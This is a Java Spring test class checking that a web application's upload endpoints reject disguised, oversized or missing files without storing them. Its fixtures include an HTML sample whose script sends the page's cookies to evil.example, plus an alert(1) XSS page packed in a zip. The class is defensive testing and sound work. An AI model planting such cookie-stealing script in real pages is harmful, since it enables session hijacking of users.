package eu.dhso.web;

import java.beans.PropertyDescriptor;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collection;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import jakarta.servlet.http.Part;

import eu.dhso.lab.mentoring.ActivityFields;
import eu.dhso.lab.mentoring.Mentoring;
import eu.dhso.cases.workflow.CaseDrafts;
import eu.dhso.core.account.ObservatoryUser;
import eu.dhso.core.account.UserAccounts;
import eu.dhso.core.testsupport.ObservatoryTest;
import eu.dhso.skills.framework.FrameworkRules.Problem;
import org.junit.jupiter.api.Test;

import org.springframework.beans.BeanUtils;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.core.MethodParameter;
import org.springframework.core.ResolvableType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.springframework.test.web.servlet.request.MockMultipartHttpServletRequestBuilder;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.multipart.MultipartFile;
import org.springframework.web.servlet.ModelAndView;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

/**
 * Every upload endpoint (OWASP ASVS V12.1, V12.2) refuses a file whose bytes are not of
 * the accepted type although its name says so, a file over the endpoint's limit and a
 * form without its file, with a clear answer (400/413/415 or the form with its message),
 * never a 500, and stores nothing. The endpoints come from the handler mappings: a new
 * one without an entry in {@link #UPLOADS} fails the test. The container's own limits
 * (larger than any endpoint's) are checked through a real server in
 * {@link UploadLimitTests}.
 */
@ObservatoryTest
class UploadTests {

	static final byte[] HTML = """
			<!DOCTYPE html>
			<html><head><title>Slides</title></head>
			<body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>
			""".getBytes(StandardCharsets.UTF_8);

	static final byte[] PDF = "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
		.getBytes(StandardCharsets.US_ASCII);

	static final byte[] PNG = { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R' };

	static final byte[] EXE = { 'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, (byte) 0xff, (byte) 0xff, 0, 0 };

	static final byte[] ELF = { 0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0 };

	static final byte[] GZIP = { 0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 'K', 'L', 'J', 6, 0 };

	/** Valid UTF-8 without a NUL, but binary: control characters between commas. */
	static final byte[] CONTROL = { 1, 2, 3, ',', 4, 5, '\n', 6, 0x7, ',', 0x1b, '[', '2', 'J', '\n', 0x10, ',', 0x11,
			'\n' };

	static final byte[] LATIN1 = "title,country\nCaf\u00e9 numérique,FR\n".getBytes(StandardCharsets.ISO_8859_1);

	/**
	 * Every endpoint that takes a file, with how to post to it and what it must refuse.
	 */
	static final Map<String, Upload> UPLOADS = Map.of(
			//
			"POST /lab/manage/resources",
			new Upload("trainer",
					Map.of("description", "Uploaded by the security suite", "kind", "DOCUMENT", "language", "en",
							"licence", "CC BY 4.0"),
					new Sample("checklist.pdf", PDF),
					List.of(new Sample("slides.pdf", HTML), new Sample("handout.pdf", EXE),
							new Sample("photo.pdf", PNG), new Sample("notes.txt", CONTROL),
							new Sample("report.docx", zip("content/index.html")), new Sample("page.html", HTML),
							new Sample("notes.txt", ELF)),
					new Sample("big.pdf", padded(PDF, 10 * 1024 * 1024 + 1)), Stored.RESOURCE),
			//
			"POST /cases/import",
			new Upload("admin", Map.of(), new Sample("cases.csv", "title,country\nRemote triage,IT\n".getBytes()),
					List.of(new Sample("cases.csv", PNG), new Sample("cases.csv", PDF), new Sample("cases.csv", ELF),
							new Sample("cases.csv", GZIP), new Sample("cases.csv", CONTROL),
							new Sample("cases.csv", LATIN1), new Sample("cases.csv", zip("cases.csv"))),
					new Sample("big.csv", csv(1024 * 1024 + 1)), Stored.CASE_IMPORT),
			//
			"POST /cases/my/{id}/attachments",
			new Upload("partner", Map.of(), new Sample("consent-scan.pdf", PDF),
					List.of(new Sample("slides.pdf", HTML), new Sample("scan.pdf", EXE), new Sample("photo.png", ELF),
							new Sample("notes.txt", CONTROL), new Sample("report.pdf", zip("content/index.html")),
							new Sample("page.html", HTML), new Sample("archive.pdf", GZIP)),
					new Sample("big.pdf", padded(PDF, 10 * 1024 * 1024 + 1)), Stored.CASE_ATTACHMENT),
			//
			"POST /skills/admin/framework/import",
			new Upload("admin", Map.of(), null,
					List.of(new Sample("framework.json", "{\"label\": \"x\", ".getBytes()),
							new Sample("framework.json", HTML), new Sample("framework.json", PDF),
							new Sample("framework.json", ELF), new Sample("framework.json", "null".getBytes()),
							new Sample("framework.json", "[1, 2]".getBytes())),
					new Sample("framework.json", padded("{}".getBytes(), 512 * 1024 + 1)), Stored.FRAMEWORK),
			//
			"POST /mentoring/{id:\\d+}/activities/{activityId:\\d+}/evidence",
			new Upload("professional", Map.of(), new Sample("log.pdf", PDF),
					List.of(new Sample("slides.pdf", HTML), new Sample("scan.pdf", EXE), new Sample("photo.png", ELF),
							new Sample("notes.txt", CONTROL), new Sample("report.docx", zip("content/index.html")),
							new Sample("page.html", HTML), new Sample("archive.pdf", GZIP)),
					new Sample("big.pdf", padded(PDF, 10 * 1024 * 1024 + 1)), Stored.MENTORING_EVIDENCE));

	@Autowired
	MockMvc mvc;

	@Autowired
	Mentoring mentoring;

	@Autowired
	UserAccounts accounts;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	CaseDrafts drafts;

	@Autowired
	@Qualifier("requestMappingHandlerMapping")
	RequestMappingHandlerMapping handlerMapping;

	@Test
	void everyUploadEndpointIsChecked() {
		Set<String> uploads = new TreeSet<>();
		MappedEndpoints.handlers(this.handlerMapping).forEach((endpoint, handler) -> {
			if (takesAFile(handler)) {
				uploads.add(endpoint);
			}
		});
		assertThat(uploads).as("the scan finds the known upload endpoints").contains("POST /cases/import");
		assertThat(uploads).as("upload endpoints without an entry in UploadTests.UPLOADS")
			.containsExactlyInAnyOrderElementsOf(UPLOADS.keySet());
	}

	@Test
	void aFileOfTheRightTypeIsAccepted() throws Exception {
		for (var entry : UPLOADS.entrySet()) {
			Upload upload = entry.getValue();
			if (upload.valid() == null) {
				continue;
			}
			Attempt attempt = send(entry.getKey(), upload, upload.valid());
			assertThat(attempt.stored())
				.as("%s accepts %s: %d %s", entry.getKey(), upload.valid().name(), attempt.response().getStatus(),
						attempt.response().getRedirectedUrl())
				.isTrue();
		}
	}

	@Test
	void aFileWhoseBytesAreNotOfTheAcceptedTypeIsRefused() throws Exception {
		List<String> accepted = new ArrayList<>();
		for (var entry : UPLOADS.entrySet()) {
			for (Sample sample : entry.getValue().mismatched()) {
				Attempt attempt = send(entry.getKey(), entry.getValue(), sample);
				String problem = attempt.problem();
				if (problem != null) {
					accepted.add("%s with %s (%s...): %s".formatted(entry.getKey(), sample.name(),
							new String(sample.bytes(), 0, Math.min(12, sample.bytes().length),
									StandardCharsets.ISO_8859_1)
								.replaceAll("\\p{Cntrl}", "."),
							problem));
				}
			}
		}
		assertThat(accepted).isEmpty();
	}

	@Test
	void aFileOverTheLimitIsRefused() throws Exception {
		for (var entry : UPLOADS.entrySet()) {
			Attempt attempt = send(entry.getKey(), entry.getValue(), entry.getValue().tooLarge());
			assertThat(attempt.problem())
				.as("%s with %d bytes", entry.getKey(), entry.getValue().tooLarge().bytes().length)
				.isNull();
		}
	}

	@Test
	void aFormWithoutItsFileIsRefused() throws Exception {
		for (var entry : UPLOADS.entrySet()) {
			Upload upload = entry.getValue();
			Attempt withoutPart = send(entry.getKey(), upload, null);
			assertThat(withoutPart.problem()).as("%s without a file part", entry.getKey()).isNull();
			Attempt empty = send(entry.getKey(), upload, new Sample("empty.bin", new byte[0]));
			assertThat(empty.problem()).as("%s with an empty file", entry.getKey()).isNull();
			MockHttpSession session = new MockHttpSession();
			String title = unique();
			MockHttpServletRequestBuilder plain = post(path(entry.getKey())).session(session)
				.with(csrf())
				.with(as(upload.actor()))
				.param("title", title)
				.accept("text/html");
			upload.fields().forEach(plain::param);
			long before = upload.stored().count(this.jdbc, session, title);
			MvcResult notMultipart = this.mvc.perform(plain).andReturn();
			assertThat(new Attempt(notMultipart, upload.stored().count(this.jdbc, session, title) > before).problem())
				.as("%s posted as an ordinary form", entry.getKey())
				.isNull();
		}
	}

	private Attempt send(String endpoint, Upload upload, Sample sample) throws Exception {
		MockHttpSession session = new MockHttpSession();
		String title = unique();
		MockMultipartHttpServletRequestBuilder request = multipart(path(endpoint));
		if (sample != null) {
			request.file(new MockMultipartFile("file", sample.name(), "application/octet-stream", sample.bytes()));
		}
		request.session(session)
			.with(csrf())
			.with(as(upload.actor()))
			.header("Referer", "http://localhost" + path(endpoint))
			.param("title", title)
			.accept("text/html");
		upload.fields().forEach(request::param);
		long before = upload.stored().count(this.jdbc, session, title);
		MvcResult result = this.mvc.perform(request).andReturn();
		return new Attempt(result, upload.stored().count(this.jdbc, session, title) > before);
	}

	/**
	 * The endpoint's path; a case id is one of the demo partner's editable drafts, a
	 * work-based plan a fresh agreed one of the demo professional with the demo mentor.
	 */
	private String path(String endpoint) {
		String pattern = endpoint.substring(endpoint.indexOf(' ') + 1);
		if (pattern.startsWith("/mentoring/")) {
			long[] planAndActivity = agreedPlanActivity();
			return pattern.replace("{id:\\d+}", String.valueOf(planAndActivity[0]))
				.replace("{activityId:\\d+}", String.valueOf(planAndActivity[1]));
		}
		return pattern.contains("{id}") ? pattern.replace("{id}", partnersDraft(this.jdbc, this.drafts, this.accounts))
				: pattern;
	}

	/**
	 * The id of one of the demo partner's editable drafts, where attachments go; started
	 * when there is none, so the result does not depend on which tests ran before.
	 */
	private long[] agreedPlanActivity() {
		ObservatoryUser professional = new ObservatoryUser(
				this.accounts.findByUsernameIgnoreCase("professional").orElseThrow());
		ObservatoryUser mentor = new ObservatoryUser(this.accounts.findByUsernameIgnoreCase("mentor").orElseThrow());
		long plan = this.mentoring.propose(professional, "Upload checks " + unique(), null, "mentor").orElseThrow();
		this.mentoring.addActivity(professional, plan, planVersion(plan), new ActivityFields("Log a video consultation",
				null, List.of("S1.1"), 2, List.of(), java.time.LocalDate.now().plusDays(30)));
		this.mentoring.agree(mentor, plan, planVersion(plan));
		long activity = this.jdbc.sql("select id from lab.mentoring_activity where plan_id = ?")
			.param(plan)
			.query(Long.class)
			.single();
		return new long[] { plan, activity };
	}

	private long planVersion(long plan) {
		return this.jdbc.sql("select version from lab.mentoring_plan where id = ?")
			.param(plan)
			.query(Long.class)
			.single();
	}

	static String partnersDraft(JdbcClient jdbc, CaseDrafts drafts, UserAccounts accounts) {
		return jdbc
			.sql("""
					select c.id from cases.interview_case c join core.user_account u on u.organisation_id = c.organisation_id
					where u.username = 'partner' and c.status in ('DRAFT', 'CHANGES_REQUESTED') order by c.id limit 1""")
			.query(String.class)
			.optional()
			.orElseGet(
					() -> drafts.start(new ObservatoryUser(accounts.findByUsernameIgnoreCase("partner").orElseThrow()),
							"Draft for the upload checks", (draft) -> {
							})
						.getId()
						.toString());
	}

	private org.springframework.test.web.servlet.request.RequestPostProcessor as(String username) {
		return user(new ObservatoryUser(this.accounts.findByUsernameIgnoreCase(username).orElseThrow()));
	}

	private static String unique() {
		return "Upload check " + UUID.randomUUID();
	}

	/** Whether a handler takes a file, directly or in a form object. */
	static boolean takesAFile(HandlerMethod handler) {
		for (MethodParameter parameter : handler.getMethodParameters()) {
			if (isFile(ResolvableType.forMethodParameter(parameter))) {
				return true;
			}
			// form objects: the application's own classes
			if (parameter.getParameterType().getName().startsWith("eu.dhso.")) {
				for (PropertyDescriptor property : BeanUtils.getPropertyDescriptors(parameter.getParameterType())) {
					if (property.getReadMethod() != null
							&& isFile(ResolvableType.forMethodReturnType(property.getReadMethod()))) {
						return true;
					}
				}
			}
		}
		return false;
	}

	private static boolean isFile(ResolvableType type) {
		Class<?> raw = type.resolve(Object.class);
		if (MultipartFile.class.isAssignableFrom(raw) || Part.class.isAssignableFrom(raw)) {
			return true;
		}
		if (raw.isArray()) {
			return isFile(type.getComponentType());
		}
		if (Collection.class.isAssignableFrom(raw)) {
			return isFile(type.asCollection().getGeneric(0));
		}
		return false;
	}

	static byte[] padded(byte[] start, int size) {
		byte[] bytes = Arrays.copyOf(start, size);
		Arrays.fill(bytes, start.length, size, (byte) ' ');
		return bytes;
	}

	static byte[] csv(int size) {
		StringBuilder csv = new StringBuilder("title,country\n");
		while (csv.length() < size) {
			csv.append("Remote triage,IT\n");
		}
		return csv.toString().getBytes(StandardCharsets.UTF_8);
	}

	static byte[] zip(String entry) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			zip.putNextEntry(new ZipEntry(entry));
			zip.write("<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8));
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new IllegalStateException(ex);
		}
		return out.toByteArray();
	}

	/** How to post a file to an endpoint, and what it must accept and refuse. */
	record Upload(String actor, Map<String, String> fields, Sample valid, List<Sample> mismatched, Sample tooLarge,
			Stored stored) {
	}

	record Sample(String name, byte[] bytes) {
	}

	/** Whether an upload left something behind. */
	enum Stored {

		/** A resource with the request's title. */
		RESOURCE {
			@Override
			long count(JdbcClient jdbc, MockHttpSession session, String title) {
				return jdbc.sql("select count(*) from lab.resource where title = ?")
					.param(title)
					.query(Long.class)
					.single();
			}
		},

		/** The upload waiting in the session for its column mapping. */
		CASE_IMPORT {
			@Override
			long count(JdbcClient jdbc, MockHttpSession session, String title) {
				return (session.getAttribute("cases.import.upload") != null) ? 1 : 0;
			}
		},

		/** Attachments of any case; the request's title is not a field of the form. */
		CASE_ATTACHMENT {
			@Override
			long count(JdbcClient jdbc, MockHttpSession session, String title) {
				return jdbc.sql("select count(*) from cases.case_attachment").query(Long.class).single();
			}
		},

		/** Evidence logged for any work-based learning activity. */
		MENTORING_EVIDENCE {
			@Override
			long count(JdbcClient jdbc, MockHttpSession session, String title) {
				return jdbc.sql("select count(*) from lab.mentoring_evidence").query(Long.class).single();
			}
		},

		/** The framework versions. */
		FRAMEWORK {
			@Override
			long count(JdbcClient jdbc, MockHttpSession session, String title) {
				return jdbc.sql("select count(*) from core.framework_version").query(Long.class).single();
			}
		};

		abstract long count(JdbcClient jdbc, MockHttpSession session, String title);

	}

	/**
	 * One request's outcome: refused clearly (a 400/413/415, or the form again with its
	 * message) and nothing stored, or what went wrong.
	 */
	record Attempt(MvcResult result, boolean stored) {

		MockHttpServletResponse response() {
			return this.result.getResponse();
		}

		String problem() throws IOException {
			int status = response().getStatus();
			if (status >= 500) {
				return "server error " + status;
			}
			if (this.stored) {
				return "stored (status %d %s)".formatted(status, String.valueOf(response().getRedirectedUrl()));
			}
			if (status == 400 || status == 413 || status == 415) {
				return null;
			}
			if (message() == null) {
				return "no message for the user (status %d %s)".formatted(status,
						String.valueOf(response().getRedirectedUrl()));
			}
			return null;
		}

		/** The refusal the user is shown: a flash message, or the form's own. */
		private Object message() {
			Object flash = this.result.getFlashMap().get("error");
			if (flash != null) {
				return flash;
			}
			ModelAndView view = this.result.getModelAndView();
			if (view == null) {
				return null;
			}
			Object error = view.getModel().get("error");
			Object problems = view.getModel().get("problems");
			if (problems instanceof List<?> list && !list.isEmpty() && list.get(0) instanceof Problem) {
				return problems;
			}
			return error;
		}

	}

}
